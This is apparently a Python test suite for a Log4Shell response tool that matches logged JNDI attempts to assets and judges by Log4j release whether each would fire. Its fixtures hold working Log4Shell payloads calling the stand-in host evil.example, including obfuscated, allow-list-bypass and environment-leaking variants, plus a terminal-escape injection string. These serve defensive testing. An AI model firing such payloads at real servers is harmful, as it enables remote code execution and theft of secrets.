"""Attempts: events of the real detector in, routes, and the answer per campaign and asset against what is known of Log4j's releases."""
import json
import os
import random
import signal
import subprocess

import respond_case
from respond_case import RespondCase, component, finding, report

SHELL, CONTEXT, RECURSION = "CVE-2021-44228", "CVE-2021-45046", "CVE-2021-45105"
PLAIN = "${jndi:ldap://evil.example:1389/a}"            # every release up to 2.14.1
LOWER = "${${lower:j}ndi:ldap://evil.example:1389/b}"   # from 2.13.0
HOST = "${jndi:ldap://127.0.0.1#evil.example:1389/c}"   # past the allow-list of 2.15.0, with a setting
DEAD = "$${jndi:ldap://evil.example:1389/d}"           # fires nowhere
LOOP = "${::-${ctx:u}}"


def line(payload, clock="13:20:00", host=None, status=200, client="192.0.2.7"):
    head = "%s " % host if host else ""
    return '%s%s - - [10/Dec/2021:%s +0000] "GET /?q=%s HTTP/1.1" %d 12 "-" "curl"\n' % (head, client, clock, payload, status)


class AttemptsCase(RespondCase):
    def events(self, text, name="access.log", *args):
        path = self.write(name, text)
        return self.run_cli("detect", "--json", "-q", *args, path, status=1).stdout, path

    def tried(self, text, *args, name="access.log", status=0):
        events, path = self.events(text, name)
        self.run_cli("attempts", "import", "-", *args, stdin=events, status=status)
        return path

    def against(self, *args, status=None):
        return self.lines("attempts", "--against-assets", "--json", *args, status=status)

    def would(self, *args, status=None):
        return {(row["campaign"].split(" ")[-1], row.get("asset")): row["would"] for row in self.against(*args, status=status)}

    def host(self, name, version=None, states=("affected", "affected"), ended="2021-12-10T13:00:00Z", found=(), **more):
        """A complete look; states of 44228 and 45046."""
        machine = "%032x" % int.from_bytes(name.encode(), "big")
        found = [finding(cve=cve, version=version, state=state) for cve, state in zip((SHELL, CONTEXT), states)] if version else found
        self.take(report(name=name, machine=machine, hardware=machine, ended=ended, findings=found, **more))


class Import(AttemptsCase):
    def test_twice_is_once_and_other_lines_are_counted(self):
        events, path = self.events(line(PLAIN) + line(LOWER, client="192.0.2.8"))
        both = events + report(components=[component()]).encode() + b"this is no event\n\n{\"a\":1"
        done = self.run_cli("attempts", "import", "-", stdin=both, status=3)
        self.assertIn(b"2 taken, 0 taken before, 2 lines about something else, 2 not read", done.stdout)
        self.assertIn(b"2 of its lines are no events, the first is line 5", done.stderr)
        before = self.dump()
        self.assertIn(b"0 taken, 2 taken before", self.run_cli("attempts", "import", "-", stdin=events, status=0).stdout)
        self.assertEqual(self.dump(), before)
        self.assertEqual(self.kinds(), ["attempts.imported"])
        self.assertEqual(self.sql("SELECT source, line, client, status FROM attempt ORDER BY line"), [(path, 1, "192.0.2.7", "200"), (path, 2, "192.0.2.8", "200")])
        want = {e["event"]["id"]: e for e in map(json.loads, events.splitlines())}
        got = self.sql("SELECT a.event, s.fires, c.key FROM attempt a JOIN attempt_shape s ON s.id = a.shape JOIN campaign c ON c.id = a.campaign")
        self.assertEqual({event.hex(): (json.loads(fires), key) for event, fires, key in got},
                         {i: (e["caltrop"]["fires"], e["caltrop"]["campaign"]) for i, e in want.items()})

    def test_the_list_is_by_campaign(self):
        self.assertIn(b"No attempt was ever imported, so nothing can be said", self.run_cli("attempts", status=3).stdout)
        self.tried(line(PLAIN, status=403) + line(PLAIN, "13:30:00", client="192.0.2.9") + line(DEAD))
        got = self.lines("attempts", "--json", status=1)
        self.assertEqual([(c["grade"], c["attempts"], c["clients"]) for c in got], [("exploit", 2, 2), ("attempt", 1, 1)])
        self.assertEqual(got[0]["outcomes"], [{"status": "200", "attempts": 1}, {"status": "403", "attempts": 1}])
        self.assertEqual((got[0]["first"], got[0]["last"], got[0]["callback"]), ("2021-12-10T13:20:00Z", "2021-12-10T13:30:00Z", "evil.example:1389"))
        self.assertEqual(self.lines("attempts", "--json", "--since", "2021-12-10T13:25Z", status=1)[0]["attempts"], 1)
        self.assertIn(b"No attempt in that time", self.run_cli("attempts", "--since", "2021-12-10T13:50Z", status=0).stdout)
        self.assertIn(b"which proves nothing", b" ".join(self.run_cli("attempts", status=1).stdout.split()))

    def test_what_is_refused(self):
        self.tried(line(PLAIN))
        before = self.dump()
        for args in (("attempts", "import"), ("attempts", "x"), ("attempts", "import", "--against-assets", "-"), ("attempts", "import", "--asset", "nosuch", "-"),
                     ("attempts", "--since", "soon"), ("attempts", "--asset", "web-1"), ("attempts", "--against-assets", "--asset", "nosuch"), ("attempts", "import", "/nosuch")):
            with self.subTest(args):
                self.run_cli(*args, stdin=b"", status=2)
        self.assertEqual(self.dump(), before)


class Routes(AttemptsCase):
    def setUp(self):
        super().setUp()
        for name in ("web-1", "web-2", "pipe"):
            self.run_cli("asset", "add", name, "--environment", "production", status=0)

    def test_by_hand_and_by_list(self):
        self.run_cli("route", "add", "shop", "--host", "shop.example", "--asset", "web-1", "--asset", "web-2@production", "--reader", "pipe", status=0)
        text = "Service;Log;Host;Asset;Role\nshop;;shop.example;web-1;serves\nblog;/var/log/*;;web-2;\n"
        self.assertIn(b"1 added, 1 as they were", self.run_cli("route", "import", self.write("routes.csv", text), status=0).stdout)
        got = self.lines("route", "list", "--json", status=0)
        self.assertEqual([(r["service"], r.get("log"), r.get("host"), r["asset"], r["role"]) for r in got],
                         [("blog", "/var/log/*", None, "web-2", "serves"), ("shop", None, "shop.example", "web-1", "serves"), ("shop", None, "shop.example", "web-2", "serves"),
                          ("shop", None, "shop.example", "pipe", "reads")])
        self.assertIn(b"shop  host shop.example  read by pipe", self.run_cli("route", "list", status=0).stdout)
        before = self.dump()
        self.run_cli("route", "import", self.path("routes.csv"), status=0)
        self.assertEqual(self.dump(), before)
        for bad in ("service,asset\nx,web-1\n", "service,log,asset\nx,,web-1\n", "service,log,asset\nx,/l,nosuch\n", "service,log,asset,role\nx,/l,web-1,eats\n", "",
                    "service,log,asset\nok,/l,web-1\n,/l,web-1\n"):
            with self.subTest(bad):
                self.run_cli("route", "import", self.write("bad.csv", bad), status=2)
        for args in (("add", "x"), ("add", "x", "--asset", "web-1"), ("add", "x", "--log", "l"), ("remove", "99"), ("remove", "x"), ("add",), ()):
            with self.subTest(args):
                self.run_cli("route", *args, status=2)
        self.assertEqual(self.dump(), before)
        self.run_cli("route", "remove", str(got[0]["id"]), status=0)
        self.assertEqual(len(self.lines("route", "list", "--json", status=0)), 3)
        self.assertEqual([k for k in self.kinds() if k.startswith("route")], ["route.added"] * 4 + ["route.removed"])

    def test_log_and_host_lead_to_assets_and_readers(self):
        path = self.tried(line(PLAIN, host="shop.example") + line(PLAIN, "13:21:00", host="Blog.Example") + line(PLAIN, "13:22:00", host="other.example"))
        self.assertEqual(self.would(status=3), {("/a", None): "target unknown"})
        for service, args in (("shop", ("--host", "shop.example", "--asset", "web-1", "--reader", "pipe")), ("blog", ("--host", "blog.*", "--log", path[:-3] + "*", "--asset", "web-2")),
                              ("nolog", ("--host", "*", "--log", "/nosuch/*", "--asset", "web-2"))):
            self.run_cli("route", "add", service, *args, status=0)
        rows = {r.get("asset"): r for r in self.against(status=3)}
        self.assertEqual({k: (r["would"], r["attempts"], r.get("role"), r.get("service")) for k, r in rows.items()},
                         {"web-1": ("cannot rule out", 1, "serves", "shop"), "pipe": ("cannot rule out", 1, "reads", "shop"), "web-2": ("cannot rule out", 1, "serves", "blog"),
                          None: ("target unknown", 1, None, None)})
        self.assertEqual((rows[None]["host"], rows[None]["if_all_assets"]), ("other.example", {"known": 3, "would fire": 0, "cannot rule out": 3, "would not": 0}))
        self.assertEqual(rows["web-1"]["reason"], "nobody ever looked at it")
        text = " ".join(self.run_cli("attempts", "--against-assets", status=3).stdout.decode().split())
        self.assertIn("target unknown 1 attempts: no route names log", text)
        self.assertIn("cannot rule out pipe (production, unknown) reading what service shop writes", text)
        self.assertEqual(list(self.would("--asset", "pipe", status=3)), [("/a", "pipe")])


class Against(AttemptsCase):
    """What Apache says of the releases: message lookups on up to 2.14.1, lower from 2.13.0, the allow-list and the settings of 2.15.0, none from 2.16.0 and on the branches' fixes."""

    VERSIONS = {
        "2.0-beta2": {}, "2.0-beta9": {"/a": "would fire"}, "2.3": {"/a": "would fire"}, "2.3.1": {}, "2.12.1": {"/a": "would fire"}, "2.12.2": {}, "2.12.4": {},
        "2.13.0": {"/a": "would fire", "/b": "would fire"}, "2.14.1": {"/a": "would fire", "/b": "would fire"}, "2.15.0": {"/c": "cannot rule out"},
        "2.16.0": {"/c": "cannot rule out"}, "2.17.0": {}, "2.17.1": {}, "2.24.3": {}, "2.14.0-2.14.1": {"/a": "would fire", "/b": "would fire"},
        "2.12.0-2.13.0": {"/a": "would fire", "/b": "cannot rule out"}, "": {"/a": "cannot rule out", "/b": "cannot rule out", "/c": "cannot rule out"}, "1.2.17": {},
    }

    def test_by_release(self):
        self.tried(line(PLAIN) + line(LOWER) + line(HOST) + line(DEAD))
        for n, version in enumerate(self.VERSIONS):
            name = "host-%02d" % n
            self.take(report(name=name, machine="%032x" % (n + 1), hardware=None,
                             components=[component("log4j-core", version, "/l.jar", "pkg:maven/org.apache.logging.log4j/log4j-core" + ("@" + version if version else ""))]))
            self.run_cli("route", "add", name, "--log", "*", "--asset", name, status=0)
        got = self.would(status=1)
        for n, (version, fires) in enumerate(self.VERSIONS.items()):
            for campaign in ("/a", "/b", "/c"):
                with self.subTest(version=version, campaign=campaign):
                    want = fires.get(campaign, "would not")
                    if campaign == "/c" and want == "would not" and fires.get("/a"):
                        want = "would fire"  # without an allow-list any name does
                    self.assertEqual(got[(campaign, "host-%02d" % n)], want)
        dead = [row for row in self.against() if row["grade"] == "attempt"]
        self.assertEqual({row["would"] for row in dead}, {"would not"})

    def test_states_and_controls_count(self):
        self.tried(line(PLAIN))
        for name, states in (("bare", ("affected", "affected")), ("flag", ("mitigated", "affected")), ("removed", ("mitigated", "mitigated")),
                             ("old", ("fixed_on_disk", "fixed_on_disk")), ("open", ("under_investigation", "under_investigation")), ("backport", ("not_affected", "not_affected"))):
            self.host(name, "2.14.1", states)
            self.run_cli("route", "add", name, "--log", "*", "--asset", name, status=0)
        self.host("isolated", "2.14.1")
        self.run_cli("route", "add", "isolated", "--log", "*", "--asset", "isolated", status=0)
        self.host("restart", "2.17.1", ("fixed_on_disk", "fixed_on_disk"))
        self.run_cli("route", "add", "restart", "--log", "*", "--asset", "restart", status=0)
        self.now("2021-12-10T15:00:00Z")
        self.run_cli("control", "add", "isolated", "isolated", "--evidence", "vlan", status=0)
        self.tried(line(PLAIN, "14:30:00") + line(PLAIN, "15:30:00"), name="later.log")
        self.now("2021-12-10T16:00:00Z")
        self.tried(line(PLAIN, "15:30:00"), name="latest.log")
        got = {k[1]: v for k, v in self.would("--since", "2021-12-10T14:00Z", status=1).items()}
        self.assertEqual(got, {"bare": "would fire", "flag": "cannot rule out", "removed": "would not", "old": "would fire", "open": "cannot rule out", "backport": "would not",
                               "isolated": "would fire", "restart": "cannot rule out"})
        late = {k[1]: v for k, v in self.would("--since", "2021-12-10T15:01Z", status=1).items()}
        self.assertEqual((late["isolated"], late["bare"]), ("would not", "would fire"))
        rows = {r["asset"]: r for r in self.against("--since", "2021-12-10T14:00Z")}
        self.assertIn("Logger.printf", rows["flag"]["reason"])
        self.assertIn("a process still ran", rows["restart"]["reason"])
        self.assertEqual((rows["isolated"]["state"], rows["isolated"]["firing"], rows["isolated"]["attempts"], rows["isolated"]["at"]), ("affected", 1, 3, "2021-12-10T14:30:00Z"))

    def test_the_time_of_the_attempt_counts(self):
        """One asset; looks at 10:00 (2.14.1), 12:00 (2.14.1), 14:00 (2.17.1 in its place), 16:00 (2.17.1)."""
        self.run_cli("asset", "add", "web", status=0)
        self.run_cli("route", "add", "web", "--log", "*", "--asset", "web", status=0)
        for clock, version in ((10, "2.14.1"), (12, "2.14.1"), (14, "2.17.1"), (16, "2.17.1")):
            self.now("2021-12-10T%d:05:00Z" % clock)
            self.host("web", version, ("affected", "affected") if version == "2.14.1" else ("not_affected", "not_affected"), ended="2021-12-10T%d:00:00Z" % clock)
        self.now("2021-12-10T18:00:00Z")
        for clock, want, words in (("09", "would fire", "nobody had looked before"), ("11", "would fire", ""), ("13", "would fire", ""), ("14", "would not", "2.17.1"), ("17", "would not", "2.17.1")):
            with self.subTest(clock):
                self.tried(line(PLAIN.replace("/a", "/x%s" % clock), clock + ":30:00"), name="%s.log" % clock)
                row, = [r for r in self.against() if r["campaign"].endswith("/x" + clock)]
                self.assertEqual(row["would"], want, row)
                self.assertIn(words, row["reason"])
        self.tried(line(PLAIN.replace("/a", "/all"), "09:30:00") + line(PLAIN.replace("/a", "/all"), "17:30:00"), name="all.log")
        row, = [r for r in self.against() if r["campaign"].endswith("/all")]
        self.assertEqual((row["would"], row["firing"], row["attempts"]), ("would fire", 1, 2))

    def test_what_came_between_two_looks(self):
        self.run_cli("asset", "add", "web", status=0)
        self.run_cli("route", "add", "web", "--log", "*", "--asset", "web", status=0)
        self.host("web", ended="2021-12-10T10:00:00Z")
        self.host("web", "2.14.1", ended="2021-12-10T13:00:00Z")
        self.tried(line(PLAIN.replace("/a", "/before"), "09:00:00") + line(PLAIN.replace("/a", "/between"), "11:00:00") + line(PLAIN.replace("/a", "/after"), "13:30:00"))
        self.assertEqual({k[0]: v for k, v in self.would(status=1).items()}, {"/before": "cannot rule out", "/between": "cannot rule out", "/after": "would fire"})

    def test_nobody_looked_is_never_safe(self):
        self.now("2021-12-10T20:00:00Z")
        self.run_cli("asset", "add", "never", status=0)
        self.host("part", roots=("/srv",))
        self.host("broken", complete=False)
        self.host("late", ended="2021-12-10T19:00:00Z")
        self.host("stale", ended="2021-11-20T13:00:00Z")
        self.host("fresh")
        for name in ("never", "part", "broken", "late", "stale", "fresh"):
            self.run_cli("route", "add", name, "--log", "*", "--asset", name, status=0)
        self.tried(line(PLAIN) + line(LOOP))
        rows = {r["asset"]: r for r in self.against(status=3) if r["campaign"].endswith("/a")}
        self.assertEqual({k: r["would"] for k, r in rows.items()}, {**dict.fromkeys(("never", "part", "broken", "late", "stale"), "cannot rule out"), "fresh": "would not"})
        for name, words in (("never", "nobody ever looked"), ("part", "only a part"), ("broken", "only a part"), ("late", "came after the attempt"), ("stale", "was stale then"),
                            ("fresh", "the complete look of 2021-12-10T13:00:00Z found no log4j-core")):
            self.assertIn(words, rows[name]["reason"])
        self.assertEqual(self.would("--fresh", "30d")[("/a", "stale")], "would not")
        self.assertIn(b"0 would fire", self.run_cli("attempts", "--against-assets", status=3).stdout)

    def test_an_empty_answer_is_not_safe(self):
        self.assertIn(b"nothing can be said", self.run_cli("attempts", "--against-assets", status=3).stdout)
        self.tried(line(PLAIN))
        text = " ".join(self.run_cli("attempts", "--against-assets", status=3).stdout.decode().split())
        self.assertIn("no asset is known", text)
        self.assertIn("1 attempts have no known target", text)
        self.run_cli("attempts", "--against-assets", "--since", "2021-12-10T13:50Z")
        self.assertIn(b"which is not that nothing was", b" ".join(self.run_cli("attempts", "--against-assets", "--since", "2021-12-10T13:50Z").stdout.split()))

    def test_recursion_and_whose_log_it_is(self):
        for name, version in (("a", "2.16.0"), ("b", "2.17.0")):
            self.take(report(name=name, machine=name * 32, hardware=None, components=[component("log4j-core", version, "/l.jar", respond_case.LOG4J % version)]))
            self.tried(line(LOOP, client="192.0.2.%d" % ord(name)), "--asset", name, name=name + ".log")
        got = {r["asset"]: (r["would"], r["role"]) for r in self.against(status=3)}
        self.assertEqual(got, {"a": ("cannot rule out", "log"), "b": ("would not", "log")})

    def test_who_runs_it_is_said(self):
        for name, processes in (("runs", [{"pid": 4711, "name": "java", "unit": "shop.service", "java": "17.0.9", "how": "holds it open", "controls": "agent x"}]), ("rests", [])):
            self.host(name, found=[finding(version="2.14.1", processes=processes)])
            self.run_cli("route", "add", name, "--log", "*", "--asset", name, status=0)
        self.host("unseen", found=[finding(version="2.14.1")], processes="no")
        self.run_cli("route", "add", "unseen", "--log", "*", "--asset", "unseen", status=0)
        self.tried(line(PLAIN))
        self.assertEqual({r["asset"]: (r["would"], r.get("run_by")) for r in self.against(status=1)},
                         {"runs": ("would fire", "run by java 4711 (shop.service; Java 17.0.9; agent x)"), "rests": ("would fire", "no running process was seen with it"),
                          "unseen": ("would fire", None)})
        self.assertIn("; run by java 4711 (shop.service", " ".join(self.run_cli("attempts", "--against-assets", status=1).stdout.decode().split()))

    def test_outcomes_prove_nothing(self):
        self.host("web", "2.14.1")
        self.run_cli("route", "add", "web", "--log", "*", "--asset", "web", status=0)
        self.tried(line(PLAIN, status=403))
        self.run_cli("control", "add", "web", "waf", "--evidence", "rule 7", status=0)
        row, = self.against(status=1)
        self.assertEqual((row["would"], row["outcomes"]), ("would fire", [{"status": "403", "attempts": 1}]))
        self.assertIn(b"answered 403 (1), which proves nothing", b" ".join(self.run_cli("attempts", "--against-assets", status=1).stdout.split()))

    def test_hostile_words_are_printed_safely(self):
        bad = "${jndi:ldap://x.example/\x1b]0;a\x07}"
        self.tried(line(bad, host="h") + line("${env:A:-${jndi:ldap://y.example/${env:B}}}"))
        self.take(report(name=bad, findings=[finding(version="2.14.1")]))
        self.run_cli("route", "add", bad, "--log", "*", "--asset", bad, status=0)
        for args in (("attempts",), ("attempts", "--json"), ("attempts", "--against-assets"), ("attempts", "--against-assets", "--json"), ("route", "list"), ("route", "list", "--json"),
                     ("timeline",)):
            out = self.run_cli(*args).stdout
            self.assertTrue(out)
            self.assertNotIn(b"${", out)
            self.assertNotIn(b"\x1b", out)
            if args == ("attempts",):
                self.assertNotIn(b"://x.example", out)

    def test_more_evidence_never_makes_an_answer_safer(self):
        """Looks that see all that the ones before saw, and more, at times around the attempt; no answer gets safer by what is affected."""
        seed = int(os.environ.get("CT_SEED", random.randrange(1 << 32)))
        print("seed", seed)
        rng = random.Random(seed)
        order = ["would fire", "cannot rule out", "would not"]
        self.host("web", ended="2021-12-10T12:00:00Z")
        self.run_cli("route", "add", "web", "--log", "*", "--asset", "web", status=0)
        self.tried(line(PLAIN) + line(LOWER) + line(HOST))
        for kind in rng.sample(["no-lookups", "hot-patch", "isolated", "waf"], 2):
            self.run_cli("control", "add", "web", kind, "--evidence", "x", status=0)
        self.now("2021-12-10T18:00:00Z")
        found, before = [], self.would()
        for step in range(8):
            found.append(finding(cve=rng.choice((SHELL, CONTEXT)), version=rng.choice(("2.9.1", "2.14.1", "2.15.0", "2.17.1")), path="/srv/%d" % step,
                                 state=rng.choice(("affected", "mitigated", "fixed_on_disk", "under_investigation"))))
            self.host("web", found=found, ended="2021-12-10T14:%02d:00Z" % (30 + step))
            after = self.would()
            for key, verdict in before.items():
                self.assertLessEqual(order.index(after[key]), order.index(verdict), (key, step))
            before = after


class Floods(AttemptsCase):
    def event(self, n, campaign, host="h", condition=()):
        return json.dumps({"@timestamp": "2021-12-10T13:20:00Z", "event": {"dataset": "caltrop.attempt", "id": "%032x" % n}, "url": {"domain": host}, "log": {"file": {"path": "/l"}},
                           "caltrop": {"grade": "exploit", "certainty": "conditional" if condition else "certain", "condition": list(condition), "campaign": campaign,
                                       "fires": [{"versions": "2.8-2.14.1", "sink": "message", "setting": ""}]}}) + "\n"

    def test_attackers_make_as_many_as_they_like(self):
        self.host("web", "2.14.1")
        self.run_cli("route", "add", "web", "--host", "h", "--asset", "web", status=0)
        lines = [self.event(n, "one", "host-%d" % n, ("env:A%d" % n,)) for n in range(9000)] + [self.event(9000, "one")]
        lines += [self.event(10000 + n, "campaign %d" % n, "elsewhere") for n in range(20100)]
        self.run_cli("attempts", "import", self.write("flood.ndjson", "".join(lines)), status=0, timeout=300)
        done = self.run_cli("attempts", "--against-assets", timeout=300, status=1)
        self.assertIn(b"101 campaigns more, the least grave ones, were not held against assets", done.stderr)
        self.assertIn("would fire       web", done.stdout.decode())
        self.assertIn("9000 attempts: no route names", " ".join(done.stdout.decode().split()))
        self.run_cli("route", "remove", "1", status=0)
        self.run_cli("attempts", "--against-assets", timeout=300, status=3)


class Whole(AttemptsCase):
    def test_killed_at_any_time_it_is_all_or_nothing(self):
        events, _ = self.events("".join(line(PLAIN.replace("/a", "/%d" % (i % 50)), "13:%02d:%02d" % (i // 60 % 60, i % 60), client="192.0.2.%d" % (i % 200)) for i in range(3000)))
        path = self.write("events.ndjson", events)
        routes = self.write("routes.csv", "service,log,asset\n" + "".join("s%d,/l%d,web\n" % (i, i) for i in range(3000)))
        self.run_cli("asset", "add", "web", status=0)
        rng = random.Random(11)
        seen = set()
        for args, sql, whole in ((("attempts", "import", path), "SELECT count(*) FROM attempt", 3000), (("route", "import", routes), "SELECT count(*) FROM route", 3000)):
            for _ in range(12):
                process = subprocess.Popen([respond_case.cli_case.CALTROP, *args], env=self.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                try:
                    process.wait(timeout=rng.uniform(0.001, 0.12))
                except subprocess.TimeoutExpired:
                    process.send_signal(signal.SIGKILL)
                    process.wait()
                n = self.sql(sql)[0][0]
                self.assertIn(n, (0, whole))
                seen.add(n)
                self.run_cli("store", "check", status=0)
            self.run_cli(*args, status=0)
            self.assertEqual(self.sql(sql), [(whole,)])


if __name__ == "__main__":
    respond_case.main()
